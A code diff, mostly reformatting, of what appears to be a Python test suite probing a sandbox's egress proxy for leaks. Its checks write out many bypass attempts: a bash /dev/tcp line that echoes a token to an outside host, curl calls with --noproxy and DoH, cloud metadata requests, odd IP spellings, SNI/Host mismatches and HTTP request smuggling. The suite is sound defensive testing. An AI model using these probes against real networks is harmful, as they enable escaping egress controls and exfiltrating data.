@@ -163,15 +163,29 @@ def programs_without_the_proxy(token):
         ("curl", "-sk", "-m", "3", "--noproxy", "*", f"https://{name}/"),
         ("curl", "-sk", "-m", "3", "--noproxy", "*", f"https://{WORLD}/"),
         ("curl", "-sk", "-m", "3", "--noproxy", "*", "--resolve", pin, f"https://{name}/"),
-        ("curl", "-sk", "-m", "3", "--noproxy", "*", "--doh-insecure", "--doh-url",
-         f"https://{WORLD}/dns-query", f"https://{name}/"),
+        (
+            "curl",
+            "-sk",
+            "-m",
+            "3",
+            "--noproxy",
+            "*",
+            "--doh-insecure",
+            "--doh-url",
+            f"https://{WORLD}/dns-query",
+            f"https://{name}/",
+        ),
         ("git", "-c", "http.proxy=", "ls-remote", f"https://{name}/git/demo.git"),
         ("git", "ls-remote", f"git://{WORLD}/demo.git"),
         ("ssh", "-o", "ConnectTimeout=3", "-o", "StrictHostKeyChecking=no", f"x@{WORLD}", "true"),
         ("bash", "-c", f"echo {token} >/dev/tcp/{WORLD}/443"),
         ("bash", "-c", f"echo {token} >/dev/udp/{WORLD}/443"),
-        ("perl", "-MIO::Socket::INET", "-e",
-         f"IO::Socket::INET->new(PeerAddr=>'{WORLD}:443',Timeout=>3)&&print 'in'"),
+        (
+            "perl",
+            "-MIO::Socket::INET",
+            "-e",
+            f"IO::Socket::INET->new(PeerAddr=>'{WORLD}:443',Timeout=>3)&&print 'in'",
+        ),
     ]
     return [words[-80:] for _, words in together(*[later(run, *one, seconds=5) for one in several])]
 
@@ -214,7 +228,10 @@ def names_by_the_system(token):
     os.environ["RES_OPTIONS"] = "timeout:1 attempts:1"
     names = [f"{token}.leak.test", f"{token}2.leak.test.", "allowed.test"]
     answers = together(*[later(resolve, name) for name in names], seconds=6)
-    commands = [("getent", "hosts", f"{token}3.leak.test"), ("getent", "ahosts", f"{token}4.leak.test")]
+    commands = [
+        ("getent", "hosts", f"{token}3.leak.test"),
+        ("getent", "ahosts", f"{token}4.leak.test"),
+    ]
     more = together(*[later(run, *one, seconds=5) for one in commands])
     return [str(each)[:60] for each in answers + more]
 
@@ -289,8 +306,11 @@ SPELLINGS += ["168.63.129.16", "100.100.100.200", "metadata.google.internal"]
 def the_metadata_address(token):
     ask = f"GET /latest/{token} HTTP/1.0\r\n\r\n".encode()
     jobs = [later(tcp, each, 80, ask) for each in SPELLINGS]
-    jobs += [later(run, "curl", "-gsm", "2", "--noproxy", "*", f"http://{each}/{token}")
-             for each in SPELLINGS if ":" not in each]
+    jobs += [
+        later(run, "curl", "-gsm", "2", "--noproxy", "*", f"http://{each}/{token}")
+        for each in SPELLINGS
+        if ":" not in each
+    ]
     return brief(together(*jobs))
 
 
@@ -320,7 +340,9 @@ def icmp(token):
     addresses = [WORLD, PRIVATE, *SET["host4"]]
     jobs = [later(ping, one, token) for one in addresses]
     jobs += [later(ping, one, token, socket.SOCK_RAW) for one in addresses]
-    jobs += [later(run, "ping", "-c1", "-w2", "-p", b"leak".hex(), one, seconds=4) for one in addresses]
+    jobs += [
+        later(run, "ping", "-c1", "-w2", "-p", b"leak".hex(), one, seconds=4) for one in addresses
+    ]
     return brief(together(*jobs))
 
 
@@ -383,8 +405,14 @@ def source_routes_through_the_sidecars(token):
 
 @check("network", "inside")
 def other_ports_of_the_sidecars(_token):
-    allowed = {(PROXY[0], PROXY[1])} | {(one, port) for one in SET["ingress"] for port in SET["served"]}
-    places = list(itertools.product({PROXY[0], *SET["ingress"]}, [*range(1, 1025), 3000, *range(8000, 8100), 9090]))
+    allowed = {(PROXY[0], PROXY[1])} | {
+        (one, port) for one in SET["ingress"] for port in SET["served"]
+    }
+    places = list(
+        itertools.product(
+            {PROXY[0], *SET["ingress"]}, [*range(1, 1025), 3000, *range(8000, 8100), 9090]
+        )
+    )
     found = set()
 
     def scan(part):
@@ -403,8 +431,12 @@ def the_ingress_as_a_way_out(token):
     name = f"{token}.forbidden.test"
     said = []
     for address, port in itertools.product(SET["ingress"], SET["served"]):
-        for line in (f"CONNECT {name}:443 HTTP/1.1\r\n\r\n", f"GET http://{WORLD}/{token} HTTP/1.1\r\nHost: {name}\r\n\r\n",
-                     f"PROXY TCP4 {WORLD} {WORLD} 443 443\r\n", "\x05\x01\x00"):
+        for line in (
+            f"CONNECT {name}:443 HTTP/1.1\r\n\r\n",
+            f"GET http://{WORLD}/{token} HTTP/1.1\r\nHost: {name}\r\n\r\n",
+            f"PROXY TCP4 {WORLD} {WORLD} 443 443\r\n",
+            "\x05\x01\x00",
+        ):
             said.append(together(later(tcp, address, port, line.encode("latin-1")))[0])
     return brief(said)
 
@@ -493,9 +525,21 @@ def push(connection, token):
 
 @check("proxy")
 def connect_to_a_forbidden_name(token):
-    names = ["{}.forbidden.test", "allowed.test.{}.evil.test", "{}allowed.test", "{}.allowed.test",
-             "allowed.{}.test", "{}-wild.test", "allowed.test{}", "allowed.test.{}", "localhost",
-             "canary.ctrkit.invalid", "{}.leak.xn--p1ai", "allowed_.test", "-allowed.test"]
+    names = [
+        "{}.forbidden.test",
+        "allowed.test.{}.evil.test",
+        "{}allowed.test",
+        "{}.allowed.test",
+        "allowed.{}.test",
+        "{}-wild.test",
+        "allowed.test{}",
+        "allowed.test.{}",
+        "localhost",
+        "canary.ctrkit.invalid",
+        "{}.leak.xn--p1ai",
+        "allowed_.test",
+        "-allowed.test",
+    ]
     tries = [name.format(token) for name in names]
 
     def one(name):
@@ -510,9 +554,32 @@ def literals():
     octal = ".".join(f"0{int(each):o}" for each in WORLD.split("."))
     short = WORLD.split(".")
     short = f"{short[0]}.{short[1]}.{int(short[2]) * 256 + int(short[3])}"
-    found = [WORLD, WORLD + ".", str(number), hex(number), octal, short, f"[::ffff:{WORLD}]", PRIVATE]
-    found += [f"[::ffff:{number >> 16:x}:{number & 0xFFFF:x}]", f"[64:ff9b::{number >> 16:x}:{number & 0xFFFF:x}]"]
-    found += ["127.0.0.1", "127.1", "0", "0.0.0.0", "[::1]", "[::]", "localhost", PROXY[0], *SET["host4"], *SET["own"]]
+    found = [
+        WORLD,
+        WORLD + ".",
+        str(number),
+        hex(number),
+        octal,
+        short,
+        f"[::ffff:{WORLD}]",
+        PRIVATE,
+    ]
+    found += [
+        f"[::ffff:{number >> 16:x}:{number & 0xFFFF:x}]",
+        f"[64:ff9b::{number >> 16:x}:{number & 0xFFFF:x}]",
+    ]
+    found += [
+        "127.0.0.1",
+        "127.1",
+        "0",
+        "0.0.0.0",
+        "[::1]",
+        "[::]",
+        "localhost",
+        PROXY[0],
+        *SET["host4"],
+        *SET["own"],
+    ]
     return found
 
 
@@ -543,14 +610,38 @@ def connect_to_another_port(token):
 @check("proxy")
 def connect_in_odd_spellings(token):
     evil = f"{token}.forbidden.test"
-    tries = [f"allowed.test@{evil}:443", f"{evil}@allowed.test:443", f"{evil}#allowed.test:443",
-             f"{evil}/allowed.test:443", f"{evil}\\allowed.test:443", f"{evil}%00.allowed.test:443",
-             f"{evil}\tallowed.test:443", f"allowed.test:443@{evil}:443", f"allowed.test:443:{evil}:443",
-             f"[{evil}]:443", f"{evil}.:443", f"{evil.upper()}:443", f"{evil}:0443", f"{evil}:443 ",
-             f"http://{evil}:443", f"https://allowed.test:443@{evil}", f"//{evil}:443", f"*.{evil}:443",
-             "allowed.test:65979", "allowed.test:+443", "allowed.test:4_43", "allowed.test:٤٤٣",
-             "allowed。test:443", "ａllowed.test:443", "allowed.test:443,evil.test:443", "allowed.test",
-             "allowed.test:", ":443", "*:443", "allowed.test:443\r\nX: y"]
+    tries = [
+        f"allowed.test@{evil}:443",
+        f"{evil}@allowed.test:443",
+        f"{evil}#allowed.test:443",
+        f"{evil}/allowed.test:443",
+        f"{evil}\\allowed.test:443",
+        f"{evil}%00.allowed.test:443",
+        f"{evil}\tallowed.test:443",
+        f"allowed.test:443@{evil}:443",
+        f"allowed.test:443:{evil}:443",
+        f"[{evil}]:443",
+        f"{evil}.:443",
+        f"{evil.upper()}:443",
+        f"{evil}:0443",
+        f"{evil}:443 ",
+        f"http://{evil}:443",
+        f"https://allowed.test:443@{evil}",
+        f"//{evil}:443",
+        f"*.{evil}:443",
+        "allowed.test:65979",
+        "allowed.test:+443",
+        "allowed.test:4_43",
+        "allowed.test:٤٤٣",
+        "allowed。test:443",
+        "ａllowed.test:443",
+        "allowed.test:443,evil.test:443",
+        "allowed.test",
+        "allowed.test:",
+        ":443",
+        "*:443",
+        "allowed.test:443\r\nX: y",
+    ]
 
     def one(target):
         connection = tunnel(target, host="allowed.test:443")
@@ -577,9 +668,31 @@ def dashed(address):
 @check("proxy", "only-dns")
 def allowed_names_with_addresses_that_are_not(token):
     """A name that the policy allows may lead anywhere: its owner says where."""
-    names = [dashed(each) for each in (METADATA, PRIVATE, "127.0.0.1", "0.0.0.0", "168.63.129.16",
-             "100.100.100.200", "255.255.255.255", "224.0.0.1", *SET["host4"], *SET["own"], *SET["others"])]
-    mapped = ["::1", "::", "fe80::1", "fd00:ec2::254", f"::ffff:{METADATA}", f"64:ff9b::{METADATA}", f"2002:a9fe:a9fe::{1}"]
+    names = [
+        dashed(each)
+        for each in (
+            METADATA,
+            PRIVATE,
+            "127.0.0.1",
+            "0.0.0.0",
+            "168.63.129.16",
+            "100.100.100.200",
+            "255.255.255.255",
+            "224.0.0.1",
+            *SET["host4"],
+            *SET["own"],
+            *SET["others"],
+        )
+    ]
+    mapped = [
+        "::1",
+        "::",
+        "fe80::1",
+        "fd00:ec2::254",
+        f"::ffff:{METADATA}",
+        f"64:ff9b::{METADATA}",
+        f"2002:a9fe:a9fe::{1}",
+    ]
     names += ["six-" + socket.inet_pton(socket.AF_INET6, each).hex() for each in mapped]
     jobs = []
     for each in names:
@@ -620,20 +733,41 @@ def a_spoofed_host(token):
 @check("proxy")
 def a_sni_that_differs(token):
     evil = f"{token}.forbidden.test"
-    jobs = [later(https, "allowed.test:443", sni, get(host))
-            for sni, host in itertools.product([evil, "", "other.test", "pinned.test", f"{evil}.", f"allowed.test.{evil}"],
-                                               ["allowed.test", evil])]
+    jobs = [
+        later(https, "allowed.test:443", sni, get(host))
+        for sni, host in itertools.product(
+            [evil, "", "other.test", "pinned.test", f"{evil}.", f"allowed.test.{evil}"],
+            ["allowed.test", evil],
+        )
+    ]
     return brief([status(each) if isinstance(each, bytes) else each for each in together(*jobs)])
 
 
 @check("proxy", "no-host")
 def an_absolute_target_in_the_tunnel(token):
     evil = f"{token}.forbidden.test"
-    targets = [f"http://{evil}/", f"https://{evil}/", f"//{evil}/", f"http://{WORLD}/{token}", f"https://{METADATA}/",
-               f"{evil}:443", f"@{evil}/", f"http:{evil}/"]
-    jobs = [later(https, "allowed.test:443", "allowed.test", get(host, target))
-            for target, host in itertools.product(targets, ["allowed.test", evil])]
-    jobs.append(later(https, "allowed.test:443", "allowed.test", get(f"{evil}:443", f"{evil}:443", method="CONNECT")))
+    targets = [
+        f"http://{evil}/",
+        f"https://{evil}/",
+        f"//{evil}/",
+        f"http://{WORLD}/{token}",
+        f"https://{METADATA}/",
+        f"{evil}:443",
+        f"@{evil}/",
+        f"http:{evil}/",
+    ]
+    jobs = [
+        later(https, "allowed.test:443", "allowed.test", get(host, target))
+        for target, host in itertools.product(targets, ["allowed.test", evil])
+    ]
+    jobs.append(
+        later(
+            https,
+            "allowed.test:443",
+            "allowed.test",
+            get(f"{evil}:443", f"{evil}:443", method="CONNECT"),
+        )
+    )
     return brief([status(each) if isinstance(each, bytes) else each for each in together(*jobs)])
 
 
@@ -690,8 +824,14 @@ def a_client_hello_in_two_segments(token):
     places = list(splits(size))
 
     def part(some):
-        return brief([status(by_hand("allowed.test:443", evil, lambda first, at=at: [first[:at], first[at:]]))
-                      for at in some])
+        return brief(
+            [
+                status(
+                    by_hand("allowed.test:443", evil, lambda first, at=at: [first[:at], first[at:]])
+                )
+                for at in some
+            ]
+        )
 
     return f"{len(places)} splits of {size}: {together(*[later(part, places[at::8]) for at in range(8)], seconds=600)}"
 
@@ -706,9 +846,15 @@ def a_client_hello_in_odd_records(token):
 
     ways = [lambda first, at=at: records(at, first) for at in (1, 4, 40, 100)]
     ways += [lambda first, at=at: [b"".join(records(at, first))] for at in (1, 4, 40, 100)]
-    ways += [lambda first, v=v: [first[:1] + bytes(v) + first[3:]] for v in itertools.product((0, 2, 3, 4, 127), (0, 1, 2, 3, 4, 9, 255))]
+    ways += [
+        lambda first, v=v: [first[:1] + bytes(v) + first[3:]]
+        for v in itertools.product((0, 2, 3, 4, 127), (0, 1, 2, 3, 4, 9, 255))
+    ]
     ways += [lambda first: [bytes([each]) for each in first]]
-    ways += [lambda first, junk=junk: [junk + first] for junk in (b"\r\n", b"\x00", b"\x14\x03\x03\x00\x01\x01", b"\x15\x03\x03\x00\x02\x01\x00")]
+    ways += [
+        lambda first, junk=junk: [junk + first]
+        for junk in (b"\r\n", b"\x00", b"\x14\x03\x03\x00\x01\x01", b"\x15\x03\x03\x00\x02\x01\x00")
+    ]
     ways += [lambda first: [first[:60]], lambda first: [b"\x80\x2e\x01\x03\x01" + first]]
     jobs = [later(by_hand, "allowed.test:443", evil, way, 0.002) for way in ways]
     return brief([status(each) if isinstance(each, bytes) else each for each in together(*jobs)])
@@ -727,23 +873,48 @@ def plain_bytes_in_a_tunnel(token):
         return "closed"
 
     evil = f"{token}.forbidden.test"
-    texts = [f"GET /{token} HTTP/1.1\r\nHost: allowed.test\r\n\r\n", get(evil), f"SSH-2.0-{token}\r\n", f"EHLO {token}\r\n",
-             f"\x00{token}", f"\x16{token}", f"\x16\x03\x01{token}", f"\x05\x01\x00{token}", "", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"]
-    jobs = [later(one, f"{name}:443", data.encode("latin-1")) for name in ("allowed.test", "pinned.test") for data in texts]
+    texts = [
+        f"GET /{token} HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
+        get(evil),
+        f"SSH-2.0-{token}\r\n",
+        f"EHLO {token}\r\n",
+        f"\x00{token}",
+        f"\x16{token}",
+        f"\x16\x03\x01{token}",
+        f"\x05\x01\x00{token}",
+        "",
+        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
+    ]
+    jobs = [
+        later(one, f"{name}:443", data.encode("latin-1"))
+        for name in ("allowed.test", "pinned.test")
+        for data in texts
+    ]
     return brief(together(*jobs))
 
 
 @check("proxy")
 def hosts_that_disagree(token):
     evil = f"{token}.forbidden.test"
-    heads = [f"Host: allowed.test\r\nHost: {evil}\r\n", f"Host: {evil}\r\nHost: allowed.test\r\n",
-             f"Host: allowed.test\r\nhost: {evil}\r\n", f"Host: allowed.test, {evil}\r\n", f"Host: allowed.test {evil}\r\n",
-             f"Host: allowed.test\r\n {evil}\r\n", f"Host : {evil}\r\nHost: allowed.test\r\n", f"Host:{evil}\x00allowed.test\r\n",
-             f"Host: {evil}#allowed.test\r\n", f"Host: {evil}?allowed.test\r\n", f"X: y\rHost: {evil}\r\nHost: {evil}\r\n",
-             "Host: allowed.test\r\nHost: allowed.test\r\n"]
+    heads = [
+        f"Host: allowed.test\r\nHost: {evil}\r\n",
+        f"Host: {evil}\r\nHost: allowed.test\r\n",
+        f"Host: allowed.test\r\nhost: {evil}\r\n",
+        f"Host: allowed.test, {evil}\r\n",
+        f"Host: allowed.test {evil}\r\n",
+        f"Host: allowed.test\r\n {evil}\r\n",
+        f"Host : {evil}\r\nHost: allowed.test\r\n",
+        f"Host:{evil}\x00allowed.test\r\n",
+        f"Host: {evil}#allowed.test\r\n",
+        f"Host: {evil}?allowed.test\r\n",
+        f"X: y\rHost: {evil}\r\nHost: {evil}\r\n",
+        "Host: allowed.test\r\nHost: allowed.test\r\n",
+    ]
     jobs = []
     for head in heads:
-        jobs.append(later(https, "allowed.test:443", "allowed.test", f"GET /{token} HTTP/1.1\r\n{head}\r\n"))
+        jobs.append(
+            later(https, "allowed.test:443", "allowed.test", f"GET /{token} HTTP/1.1\r\n{head}\r\n")
+        )
         jobs.append(later(say, f"GET http://allowed.test/{token} HTTP/1.1\r\n{head}\r\n"))
         jobs.append(later(say, f"GET http://{evil}/ HTTP/1.1\r\n{head}\r\n"))
     return brief([status(each) if isinstance(each, bytes) else each for each in together(*jobs)])
@@ -754,9 +925,18 @@ def a_request_within_a_request(token):
     """Two lengths, or a length that ends early: what follows is another request."""
     evil = f"{token}.forbidden.test"
     inner = f"GET /smuggled HTTP/1.1\r\nHost: {evil}\r\n\r\n"
-    heads = ["Content-Length: 0\r\nTransfer-Encoding: chunked\r\n", f"Content-Length: {len(inner) + 5}\r\nTransfer-Encoding: chunked\r\n",
-             "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n", "Transfer-Encoding: xchunked\r\n", "Transfer-Encoding : chunked\r\n",
-             "Transfer-Encoding:\x0bchunked\r\n", "Content-Length: 0\r\nContent-Length: 5\r\n", "Content-Length: +0\r\n", "Content-Length: 0\r\n", "Content-Length: -1\r\n"]
+    heads = [
+        "Content-Length: 0\r\nTransfer-Encoding: chunked\r\n",
+        f"Content-Length: {len(inner) + 5}\r\nTransfer-Encoding: chunked\r\n",
+        "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
+        "Transfer-Encoding: xchunked\r\n",
+        "Transfer-Encoding : chunked\r\n",
+        "Transfer-Encoding:\x0bchunked\r\n",
+        "Content-Length: 0\r\nContent-Length: 5\r\n",
+        "Content-Length: +0\r\n",
+        "Content-Length: 0\r\n",
+        "Content-Length: -1\r\n",
+    ]
     jobs = []
     for head in heads:
         for body in (f"0\r\n\r\n{inner}", inner):
@@ -779,37 +959,87 @@ def bodies_where_nothing_may_go(token):
             jobs.append(later(https, "allowed.test:443", "allowed.test", request % evil))
             jobs.append(later(https, "read.test:443", "read.test", request % "read.test"))
             jobs.append(later(say, request.replace(f" {path}", f" http://{evil}{path}") % evil))
-            jobs.append(later(say, request.replace(f" {path}", f" http://read.test{path}") % "read.test"))
+            jobs.append(
+                later(say, request.replace(f" {path}", f" http://read.test{path}") % "read.test")
+            )
     return brief([status(each) if isinstance(each, bytes) else each for each in together(*jobs)])
 
 
 @check("proxy", "inside")
 def the_proxys_own_pages(_token):
-    jobs = [later(say, get("mitm.it", "http://mitm.it/")), later(say, get("mitm.it", "/")), later(https, "mitm.it:443", "mitm.it", get("mitm.it")),
-            later(say, get("mitm.it", "http://mitm.it/cert/pem")), later(https, "allowed.test:443", "allowed.test", get("mitm.it")),
-            later(say, get("mitmproxy.local", "/flows")), later(say, get(PROXY[0], "/"))]
+    jobs = [
+        later(say, get("mitm.it", "http://mitm.it/")),
+        later(say, get("mitm.it", "/")),
+        later(https, "mitm.it:443", "mitm.it", get("mitm.it")),
+        later(say, get("mitm.it", "http://mitm.it/cert/pem")),
+        later(https, "allowed.test:443", "allowed.test", get("mitm.it")),
+        later(say, get("mitmproxy.local", "/flows")),
+        later(say, get(PROXY[0], "/")),
+    ]
     answers = together(*jobs)
-    shown = [each for each in answers if isinstance(each, bytes) and (b" 200 " in each[:20] or b"BEGIN CERT" in each)]
+    shown = [
+        each
+        for each in answers
+        if isinstance(each, bytes) and (b" 200 " in each[:20] or b"BEGIN CERT" in each)
+    ]
     return not shown, [status(each) for each in answers if isinstance(each, bytes)]
 
 
 @check("proxy")
 def plain_requests(token):
     evil = f"{token}.forbidden.test"
-    urls = [f"http://{evil}/", f"HTTP://{evil}/", f"https://{evil}/", f"ftp://{evil}/", f"http://{evil}:80/", f"http://{WORLD}/{token}",
-            f"http://allowed.test@{evil}/", f"http://allowed.test:80@{evil}/", f"http://{evil}\\@allowed.test/", f"http://{evil}#@allowed.test/",
-            f"http://allowed.test%2f@{evil}/", f"http://allowed.test.{evil}/", f"http:///{evil}/", f"http://allowed.test:443/{token}",
-            f"http://allowed.test:22/{token}", f"https://allowed.test/{token}", f"http://pinned.test/{token}", f"ws://{evil}/"]
+    urls = [
+        f"http://{evil}/",
+        f"HTTP://{evil}/",
+        f"https://{evil}/",
+        f"ftp://{evil}/",
+        f"http://{evil}:80/",
+        f"http://{WORLD}/{token}",
+        f"http://allowed.test@{evil}/",
+        f"http://allowed.test:80@{evil}/",
+        f"http://{evil}\\@allowed.test/",
+        f"http://{evil}#@allowed.test/",
+        f"http://allowed.test%2f@{evil}/",
+        f"http://allowed.test.{evil}/",
+        f"http:///{evil}/",
+        f"http://allowed.test:443/{token}",
+        f"http://allowed.test:22/{token}",
+        f"https://allowed.test/{token}",
+        f"http://pinned.test/{token}",
+        f"ws://{evil}/",
+    ]
     jobs = [later(say, get(host, url)) for url in urls for host in (evil, "allowed.test:1")]
     return brief([status(each) if isinstance(each, bytes) else each for each in together(*jobs)])
 
 
 @check("proxy")
 def methods_that_are_not_allowed(token):
-    jobs = [later(https, "read.test:443", "read.test", get("read.test", f"/{token}", method=method, headers="Content-Length: 0\r\n"))
-            for method in ("POST", "PUT", "DELETE", "PATCH", "get", "GETX", "PROPFIND", "TRACE")]
-    jobs += [later(https, "allowed.test:443", "allowed.test", get("allowed.test", f"/{token}", method=method)) for method in ("TRACE", "CONNECT")]
-    jobs.append(later(https, "read.test:443", "read.test", get("read.test", f"/{token}", "X-HTTP-Method-Override: GET\r\n", "POST")))
+    jobs = [
+        later(
+            https,
+            "read.test:443",
+            "read.test",
+            get("read.test", f"/{token}", method=method, headers="Content-Length: 0\r\n"),
+        )
+        for method in ("POST", "PUT", "DELETE", "PATCH", "get", "GETX", "PROPFIND", "TRACE")
+    ]
+    jobs += [
+        later(
+            https,
+            "allowed.test:443",
+            "allowed.test",
+            get("allowed.test", f"/{token}", method=method),
+        )
+        for method in ("TRACE", "CONNECT")
+    ]
+    jobs.append(
+        later(
+            https,
+            "read.test:443",
+            "read.test",
+            get("read.test", f"/{token}", "X-HTTP-Method-Override: GET\r\n", "POST"),
+        )
+    )
     return brief([status(each) if isinstance(each, bytes) else each for each in together(*jobs)])
 
 
@@ -820,8 +1050,22 @@ def upgrades_that_are_not_allowed(token):
     heads = [f"GET /{token} HTTP/1.1\r\nHost: allowed.test\r\n{sock}"]
     jobs = [later(https, "allowed.test:443", "allowed.test", head) for head in heads]
     jobs += [later(say, head.replace(" /", " http://allowed.test/", 1)) for head in heads]
-    jobs.append(later(https, "allowed.test:443", "allowed.test", heads[0].replace("websocket\r", "WebSocket\r")))
-    jobs.append(later(https, "allowed.test:443", "allowed.test", heads[0].replace("websocket\r", "h2c, websocket\r")))
+    jobs.append(
+        later(
+            https,
+            "allowed.test:443",
+            "allowed.test",
+            heads[0].replace("websocket\r", "WebSocket\r"),
+        )
+    )
+    jobs.append(
+        later(
+            https,
+            "allowed.test:443",
+            "allowed.test",
+            heads[0].replace("websocket\r", "h2c, websocket\r"),
+        )
+    )
     return brief([status(each) if isinstance(each, bytes) else each for each in together(*jobs)])
 
 
@@ -834,7 +1078,9 @@ def other_protocols_at_the_proxys_port(token):
     def socks5():
         with dial() as one:
             one.sendall(b"\x05\x01\x00")
-            one.sendall(b"\x05\x01\x00\x03" + bytes([len(plain)]) + plain + b"\x00\x50" + get(evil).encode())
+            one.sendall(
+                b"\x05\x01\x00\x03" + bytes([len(plain)]) + plain + b"\x00\x50" + get(evil).encode()
+            )
             return hear(one, seconds=2)
 
     def tls_first(sni, then):
@@ -846,7 +1092,12 @@ def other_protocols_at_the_proxys_port(token):
         return b"\x00" + bytes([len(key)]) + key + bytes([len(value)]) + value
 
     def http2(target=None):
-        headers = block(b":method", b"GET") + block(b":scheme", b"http") + block(b":authority", plain) + block(b":path", b"/")
+        headers = (
+            block(b":method", b"GET")
+            + block(b":scheme", b"http")
+            + block(b":authority", plain)
+            + block(b":path", b"/")
+        )
         frame = len(headers).to_bytes(3, "big") + b"\x01\x05\x00\x00\x00\x01" + headers
         data = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0" + frame
         if target:
@@ -854,11 +1105,23 @@ def other_protocols_at_the_proxys_port(token):
         return say(data, 2)
 
     socks4 = b"\x04\x01\x00\x50\x00\x00\x00\x01\x00" + plain + b"\x00" + get(evil).encode()
-    jobs = [socks5, later(say, socks4, 2), later(tls_first, evil, get(evil)), later(tls_first, "allowed.test", get(evil)),
-            later(tls_first, "allowed.test", f"CONNECT {evil}:443 HTTP/1.1\r\n\r\n"), http2, later(http2, "allowed.test:443"),
-            later(say, f"PROXY TCP4 {WORLD} {WORLD} 80 80\r\n{get(evil, f'http://{evil}/')}", 2),
-            later(say, f"GET http://{evil}/ HTTP/0.9\r\n\r\n", 2), later(say, f"GET http://{evil}/\r\n\r\n", 2),
-            later(say, f"GET http://allowed.test/any HTTP/1.1\r\nHost: allowed.test\r\n\r\n{get(evil, f'http://{evil}/')}", 2)]
+    jobs = [
+        socks5,
+        later(say, socks4, 2),
+        later(tls_first, evil, get(evil)),
+        later(tls_first, "allowed.test", get(evil)),
+        later(tls_first, "allowed.test", f"CONNECT {evil}:443 HTTP/1.1\r\n\r\n"),
+        http2,
+        later(http2, "allowed.test:443"),
+        later(say, f"PROXY TCP4 {WORLD} {WORLD} 80 80\r\n{get(evil, f'http://{evil}/')}", 2),
+        later(say, f"GET http://{evil}/ HTTP/0.9\r\n\r\n", 2),
+        later(say, f"GET http://{evil}/\r\n\r\n", 2),
+        later(
+            say,
+            f"GET http://allowed.test/any HTTP/1.1\r\nHost: allowed.test\r\n\r\n{get(evil, f'http://{evil}/')}",
+            2,
+        ),
+    ]
     return brief([status(each) if isinstance(each, bytes) else each for each in together(*jobs)])
 
 
@@ -884,10 +1147,20 @@ def a_second_name_on_one_connection(token):
 @check("proxy")
 def passthrough_under_another_name(token):
     evil = f"{token}.forbidden.test"
-    jobs = [later(https, "pinned.test:443", sni, get(sni or "x")) for sni in (evil, "allowed.test", "", f"pinned.test.{evil}")]
-    jobs += [later(https, "allowed.test:443", "pinned.test", get("pinned.test")), later(https, f"{evil}:443", "pinned.test", get("pinned.test")),
-             later(https, f"{WORLD}:443", "pinned.test", get("pinned.test")), later(https, "pinned.test:8443", "pinned.test", get("pinned.test"))]
-    jobs += [later(by_hand, "pinned.test:443", evil, lambda first, at=at: [first[:at], first[at:]]) for at in (1, 3, 5, 6, 43, 100)]
+    jobs = [
+        later(https, "pinned.test:443", sni, get(sni or "x"))
+        for sni in (evil, "allowed.test", "", f"pinned.test.{evil}")
+    ]
+    jobs += [
+        later(https, "allowed.test:443", "pinned.test", get("pinned.test")),
+        later(https, f"{evil}:443", "pinned.test", get("pinned.test")),
+        later(https, f"{WORLD}:443", "pinned.test", get("pinned.test")),
+        later(https, "pinned.test:8443", "pinned.test", get("pinned.test")),
+    ]
+    jobs += [
+        later(by_hand, "pinned.test:443", evil, lambda first, at=at: [first[:at], first[at:]])
+        for at in (1, 3, 5, 6, 43, 100)
+    ]
     return brief([status(each) if isinstance(each, bytes) else each for each in together(*jobs)])
 
 
@@ -895,21 +1168,46 @@ def passthrough_under_another_name(token):
 def random_pairings(token):
     """CONNECT, SNI and Host, chosen at random: only what agrees may pass."""
     evil = f"{token}.forbidden.test"
-    names = ["allowed.test", "other.test", "read.test", evil, f"{evil}.", f"allowed.test.{evil}", WORLD, ""]
-    some = [each for each in itertools.product(names[:-1], names, names) if any(evil in name for name in each)]
+    names = [
+        "allowed.test",
+        "other.test",
+        "read.test",
+        evil,
+        f"{evil}.",
+        f"allowed.test.{evil}",
+        WORLD,
+        "",
+    ]
+    some = [
+        each
+        for each in itertools.product(names[:-1], names, names)
+        if any(evil in name for name in each)
+    ]
     random.Random(token).shuffle(some)
     some = some if LONG else some[:60]
 
     def part(several):
-        return brief([status(https(f"{name}:443", sni if sni != WORLD else None, get(host), seconds=2)) for name, sni, host in several])
+        return brief(
+            [
+                status(https(f"{name}:443", sni if sni != WORLD else None, get(host), seconds=2))
+                for name, sni, host in several
+            ]
+        )
 
     return f"{len(some)} pairings: {together(*[later(part, some[at::12]) for at in range(12)], seconds=900)}"
 
 
 @check("proxy", "no-request")
 def certificates_of_the_world_that_are_bad(token):
-    jobs = [later(https, f"{kind}.{token}.wild.test:443", f"{kind}.{token}.wild.test", get(f"{kind}.{token}.wild.test"))
-            for kind in ("expired", "selfsigned", "wrongname")]
+    jobs = [
+        later(
+            https,
+            f"{kind}.{token}.wild.test:443",
+            f"{kind}.{token}.wild.test",
+            get(f"{kind}.{token}.wild.test"),
+        )
+        for kind in ("expired", "selfsigned", "wrongname")
+    ]
     return brief([status(each) if isinstance(each, bytes) else each for each in together(*jobs)])
 
 
@@ -917,7 +1215,7 @@ def certificates_of_the_world_that_are_bad(token):
 
 
 def curl(*arguments):
-    return shell("curl -sS -m 20 " + " ".join(arguments))
+    return shell(f"curl -sS -m {SET.get('patience', 20)} " + " ".join(arguments))
 
 
 @check("passes", "arrives")
@@ -952,13 +1250,20 @@ def a_name_below(token):
 
 @check("passes", "arrives")
 def a_login_shell(token):
-    code, words = run("bash", "-lc", f"curl -sS -m 20 https://allowed.test/any/{token}", environment=dict(os.environ))
+    code, words = run(
+        "bash",
+        "-lc",
+        f"curl -sS -m 20 https://allowed.test/any/{token}",
+        environment=dict(os.environ),
+    )
     return words == "hello\n", words[-200:]
 
 
 @check("passes", "arrives")
 def a_large_answer(token):
-    code, words = curl("-o /dev/null -w '%{size_download}'", f"https://allowed.test/big/30000000?{token}")
+    code, words = curl(
+        "-o /dev/null -w '%{size_download}'", f"https://allowed.test/big/30000000?{token}"
+    )
     return words == "30000000", words[-200:]
 
 
@@ -969,7 +1274,9 @@ def a_large_body(token):
         file.flush()
         digest = hashlib.sha256(open(file.name, "rb").read()).hexdigest()
         _, one = curl(f"-T {file.name} https://allowed.test/echo?{token}")
-        _, two = curl(f"--http1.1 -H 'Transfer-Encoding: chunked' -T {file.name} https://allowed.test/echo?{token}")
+        _, two = curl(
